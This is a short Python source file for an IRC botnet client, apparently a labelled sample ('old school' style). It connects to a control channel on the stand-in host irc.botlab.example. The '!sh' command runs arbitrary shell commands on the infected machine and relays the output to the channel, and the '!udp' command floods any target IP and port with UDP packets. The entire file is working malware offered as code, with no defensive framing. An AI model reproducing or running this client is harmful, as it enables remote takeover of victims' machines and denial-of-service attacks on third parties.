# class: botnet client over IRC; style: old school
import socket, subprocess, random, threading

HOST, PORT, CHAN = "irc.botlab.example", 6667, "#ctl"
nick = "b" + str(random.randint(1000, 9999))
s = socket.socket(); s.connect((HOST, PORT))
s.send(("NICK %s\r\nUSER %s 0 * :%s\r\n" % (nick, nick, nick)).encode())


def flood(ip, port, n):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(int(n)):
        u.sendto(random.randbytes(1024), (ip, int(port)))


buf = ""
while 1:
    buf += s.recv(2048).decode(errors="ignore")
    lines = buf.split("\r\n"); buf = lines.pop()
    for l in lines:
        if l.startswith("PING"): s.send(("PONG" + l[4:] + "\r\n").encode())
        if " 001 " in l: s.send(("JOIN " + CHAN + "\r\n").encode())
        if "PRIVMSG" in l:
            w = l.split(" :", 1)[1].split()
            if w[0] == "!sh":
                out = subprocess.getoutput(" ".join(w[1:]))
                for o in out.splitlines(): s.send(("PRIVMSG %s :%s\r\n" % (CHAN, o)).encode())
            if w[0] == "!udp": threading.Thread(target=flood, args=w[1:4]).start()
